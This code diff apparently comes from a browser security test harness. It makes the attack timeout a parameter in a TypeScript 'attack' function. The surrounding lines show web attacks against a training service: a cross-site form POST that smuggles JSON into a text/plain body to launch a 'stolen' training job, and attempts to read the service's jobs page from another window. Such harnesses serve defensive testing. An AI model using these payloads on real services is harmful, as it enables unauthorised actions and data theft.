@@ -4,6 +4,8 @@ export interface Target {
   /** The service as the attacker addresses it. */
   service: string;
   job: string;
+  /** How long an attack may take; what never ends by itself takes all of it. */
+  waitMs: number;
 }
 
 export interface Spoils {
@@ -14,8 +16,7 @@ export interface Spoils {
 }
 
 /** Runs in the attacker's page, so it can use nothing but what stands inside of it. */
-export async function attack({ service, job }: Target): Promise<Spoils> {
-  const WAIT_MS = 1000;
+export async function attack({ service, job, waitMs }: Target): Promise<Spoils> {
   const run = JSON.stringify({ adapter_name: "stolen", dataset_path: "hostile.json" });
   const json = { "content-type": "application/json" };
   const attacks: [string, () => Promise<string>][] = [];
@@ -129,12 +130,12 @@ export async function attack({ service, job }: Target): Promise<Spoils> {
   attacks.push(["train in another window", async () => {
     const opened = window.open("about:blank", "another");
     form("/train", "text/plain", { [run.slice(0, -1) + ',"notes":"']: '"}' }, "another").submit();
-    await new Promise((done) => setTimeout(done, WAIT_MS / 2));
+    await new Promise((done) => setTimeout(done, waitMs / 2));
     return attempt(() => opened?.document.body.textContent ?? "");
   }]);
   attacks.push(["read another window", async () => {
     const opened = window.open(`${service}/jobs`, "reading");
-    await new Promise((done) => setTimeout(done, WAIT_MS / 2));
+    await new Promise((done) => setTimeout(done, waitMs / 2));
     return attempt(() => (opened?.location.href === "about:blank" ? "" : (opened?.document.body.textContent ?? "")));
   }]);
   const withoutOrigin = (name: string, script: string) =>
@@ -149,7 +150,7 @@ export async function attack({ service, job }: Target): Promise<Spoils> {
 
   const read: Record<string, string> = {};
   await Promise.all(attacks.map(async ([name, act]) => {
-    const late = new Promise<string>((done) => setTimeout(() => done(""), WAIT_MS));
+    const late = new Promise<string>((done) => setTimeout(() => done(""), waitMs));
     const text = await Promise.race([Promise.resolve().then(act).catch(() => ""), late]);
     if (text) read[name] = text.slice(0, 200);
   }));
